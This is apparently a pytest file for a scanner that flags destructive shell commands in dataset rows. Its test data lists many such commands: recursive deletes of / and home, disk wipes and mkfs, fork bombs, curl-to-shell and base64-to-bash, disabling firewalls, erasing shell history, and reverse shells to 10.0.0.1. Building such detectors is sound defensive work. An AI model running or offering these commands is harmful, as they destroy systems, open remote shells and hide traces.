"""Dangerous commands are found however they are written; daily work passes."""

from __future__ import annotations

import json
import random
import time
from pathlib import Path

import pytest

from lorry.data.rows import Origin, Row
from lorry.evaluate.danger.scan import RULES, scan, scan_rows

DANGEROUS = {
    "recursive-delete": [
        "rm -rf /",
        "rm -rf /*",
        "rm -r -f /",
        "rm -fr ~",
        "rm --recursive --force $HOME",
        'rm -Rf "${HOME}"/',
        "sudo rm -rf --no-preserve-root /",
        "/bin/rm -rf -- /",
        "\\rm -rf /",
        "rm / -rf",
        "rm -rf /home",
        "rm -rf /home/*",
        "rm -rf ~/*",
        "rm -rf ~root",
        "rm -rf /home/$USER",
        "rm -rf /etc/../",
        "rm -rf //",
        "rm -rf /{bin,etc,usr}",
        "rm -rf /usr/*",
        "cd / && rm -rf *",
        "cd ~; rm -rf ./*",
        "ls; true && rm -rf / || echo no",
        "bash -c 'rm -rf /'",
        'sh -xc "rm -rf ~/"',
        "eval 'rm -rf /'",
        "echo 'rm -rf /' | sudo bash",
        "bash <<< 'rm -rf /'",
        "x=$(rm -rf /)",
        'echo "`rm -rf ~`"',
        "find . -exec rm -rf / \\;",
        "if true; then rm -rf /; fi",
        "while :; do sudo -u root rm -rf /home; done",
        "env A=1 nohup nice -n 5 rm -rf / &",
        "timeout -k 1 30 rm -rf /",
        "ssh host 'sudo rm -rf /'",
        "rsync -a --delete /empty/ /",
        "python3 -c \"import os; os.system('rm -rf /')\"",
        "python -c 'import shutil; shutil.rmtree(\"/\")'",
        "$ rm -rf /",
        "Run this:\n```bash\nrm -rf /\n```\n",
    ],
    "find-delete": [
        "find / -delete",
        "find ~ -type f -delete",
        "find / -exec rm -rf {} +",
        "find /home -type f -print0 | xargs -0 rm -f",
    ],
    "make-filesystem": [
        "mkfs.ext4 /dev/sda1",
        "sudo mkfs -t xfs /dev/nvme0n1",
        "mkswap $DISK",
        "mke2fs -j /dev/mapper/vg-root",
    ],
    "write-to-disk": [
        "dd if=/dev/zero of=/dev/sda bs=1M",
        "cat image.iso > /dev/sdb",
        "> /dev/sda",
        "zcat disk.gz | sudo tee /dev/sdb",
        "cp image.iso /dev/disk/by-id/usb-1",
        "echo c > /proc/sysrq-trigger",
    ],
    "wipe-disk": [
        "shred -n 1 /dev/sda",
        "wipefs -a /dev/sdb",
        "sgdisk --zap-all /dev/sda",
        "parted -s /dev/sda mklabel gpt",
    ],
    "fork-bomb": [":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb", "function f { f | f & }; f"],
    "remote-code": [
        "curl -fsSL https://example.org/i.sh | sh",
        "wget -qO- https://example.org/i.sh | sudo -E bash -",
        'sh -c "$(curl -fsSL https://example.org/i.sh)"',
        "bash <(curl -s https://example.org/i.sh)",
        'eval "$(wget -qO- https://example.org/i.sh)"',
        "source <(curl -s https://example.org/env)",
        "curl https://example.org/i.py | python3",
        "curl https://example.org/a | tee a.sh | bash -s -- --yes",
        "echo cm0gLXJmIC8= | base64 -d | bash",
    ],
    "open-permissions": [
        "chmod -R 777 /",
        "sudo chmod 777 -R /etc",
        "chmod --recursive a+rwx /usr",
        "chmod -R 000 /home",
    ],
    "change-owner": ["chown -R user:user /", "sudo chown -R nobody /etc", "chgrp -R users /usr/bin"],
    "move-away": ["mv / /dev/null", "mv ~ /dev/null", "mv /* /tmp/x"],
    "overwrite-vital-file": [
        "echo x > /etc/passwd",
        "rm -f /etc/shadow",
        "echo x | sudo tee /etc/sudoers",
        ": > /etc/fstab",
    ],
    "protection-off": ["sudo ufw disable", "setenforce 0", "iptables -F", "systemctl disable --now firewalld.service"],
    "hide-traces": ["rm ~/.bash_history", "unset HISTFILE", "ln -sf /dev/null ~/.bash_history", "export HISTSIZE=0"],
    "kill-everything": ["kill -9 -1", "sudo kill -KILL -1"],
    "remote-shell": ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "nc -e /bin/sh 10.0.0.1 4444"],
}

HARMLESS = [
    "rm -rf ./build",
    "rm -rf /tmp/cache/*",
    "rm -rf node_modules/",
    "rm -rf /home/alice/project/build",
    "rm -rf ~/.cache/pip",
    "rm -rf *",
    "rm -ri *",
    "rm -rf *~important-file",
    "rm -rf / tmp/x".replace("/ tmp", "/tmp"),
    'rm -rf "~"',
    "rm -rf '$HOME'",
    "rm -rf \\*",
    "rm -rf /var/log/app/*",
    "rm file -- -rf",
    'echo "rm -rf /"',
    "grep -r 'rm -rf /' .",
    "# rm -rf /",
    "ls -l  # never run rm -rf /",
    "git commit -m 'stop calling mkfs.ext4 /dev/sda'",
    "man mkfs",
    "mkfs.ext4 disk.img",
    "dd if=/dev/sda of=backup.img",
    "dd if=/dev/zero of=/dev/null count=1",
    "dd if=file of=/dev/stdout",
    "ls > /dev/null 2>&1",
    "echo hi > /dev/tty1",
    "find / 2>/dev/nul",
    "find / -name core -delete",
    "find . -delete",
    "find / -type f -size +100M -exec rm -i {} \\;",
    "find / -type f -print0 | xargs -0 grep -liwZ GUI | xargs -0 rm -f",
    "find . -name '*.pyc' -print0 | xargs -0 rm -rf",
    "curl -s https://example.org/data.json | jq .",
    "curl https://example.org/a.json | python3 -m json.tool",
    "curl https://example.org/a.txt | perl -ne 'print if /x/'",
    "curl https://example.org/a.tar.gz | tar xz",
    "wget https://example.org/install.sh",
    "curl https://example.org/x | python3 filter.py",
    "base64 -d secret.b64 > secret",
    "chmod -R 755 /srv/www/site",
    "chmod 777 /tmp/x",
    "chmod -R u+w ./objects",
    "sudo chown -R $(whoami) /usr/local/lib/node_modules",
    "chown -R www-data /var/www",
    "chown root /",
    "mv ~/a.txt /tmp",
    "mv /etc/nginx/nginx.conf /etc/nginx/nginx.conf.bak",
    "echo 'deb x' >> /etc/apt/sources.list",
    "cat /etc/passwd",
    "grep root /etc/passwd > users.txt",
    "sudo cp /etc/fstab /etc/fstab.bak",
    "iptables -L -n",
    "ufw status",
    "systemctl restart firewalld",
    "history | tail",
    "kill -9 1234",
    "kill -1 1234",
    "kill %1",
    "f() { g | h & }; f",
    "nc -l 8080 > file",
    "shred -u secret.txt",
    "wipefs /dev/sda",
    "parted /dev/sda print",
    "bash script.sh",
    "find . -name '*.txt' | sed 's/.*/mv & &.bak/' | sh",
]


@pytest.mark.parametrize(("rule", "command"), [(rule, command) for rule, many in DANGEROUS.items() for command in many])
def test_dangerous_command_is_found_with_its_rule(rule: str, command: str) -> None:
    found = scan(command)
    assert rule in [danger.rule for danger in found]
    assert all(danger.reason and danger.command for danger in found)


@pytest.mark.parametrize("command", HARMLESS)
def test_harmless_command_passes(command: str) -> None:
    assert scan(command) == []


def test_every_rule_is_shown_by_a_command_above() -> None:
    assert set(DANGEROUS) == {*RULES, "fork-bomb"}


def test_the_same_command_twice_is_reported_once() -> None:
    assert len(scan("rm -rf /\nrm   -rf   /\n")) == 1


def test_real_command_rows_give_only_alarms_that_are_true(shared_data: Path) -> None:
    rows = [json.loads(line) for line in (shared_data / "cli" / "cli_chat.jsonl").read_text("utf-8").splitlines()]
    hits = [danger for row in rows for danger in scan(row["messages"][-1]["content"])]
    # Each of the 15 was looked at: 7 run what they download, 5 write over a disk, 3 discard a disk's blocks.
    assert {danger.rule for danger in hits} == {"remote-code", "write-to-disk", "wipe-disk"}
    assert len(hits) == 15


def test_rows_are_screened_in_assistant_turns_and_raw_text_only() -> None:
    asked = Row(
        Origin("a.jsonl", 1), messages=[{"role": "user", "content": "rm -rf /"}, {"role": "assistant", "content": "no"}]
    )
    taught = Row(Origin("a.jsonl", 2), messages=[{"role": "assistant", "content": "rm -rf /"}])
    raw = Row(Origin("b.txt", 1), text="mkfs.ext4 /dev/sda1")
    found = [(str(origin), danger.rule) for origin, danger in scan_rows([asked, taught, raw])]
    assert found == [("a.jsonl:2", "recursive-delete"), ("b.txt:1", "make-filesystem")]


@pytest.mark.parametrize(
    "unit", ["$(", "rm `", '"rm $(', "rm '", "\\", "rm {", "rm |", "f(){", "<(", "rm -rf ${", "\0", "🛻 rm "]
)
def test_hostile_repetition_is_scanned_in_bounded_time(unit: str) -> None:
    started = time.perf_counter()
    scan(unit * 30_000)
    assert time.perf_counter() - started < 10


def test_random_shell_punctuation_never_raises() -> None:
    draw = random.Random(7)
    for _ in range(2000):
        scan("rm " + "".join(draw.choices("rm -rf/~$(){}<>|&;'\"`\\\n #*=ax\0é", k=draw.randint(0, 60))))


def test_danger_at_the_end_of_a_long_text_is_found() -> None:
    assert [danger.rule for danger in scan("ls -l\n" * 10_000 + "rm -rf /\n")] == ["recursive-delete"]
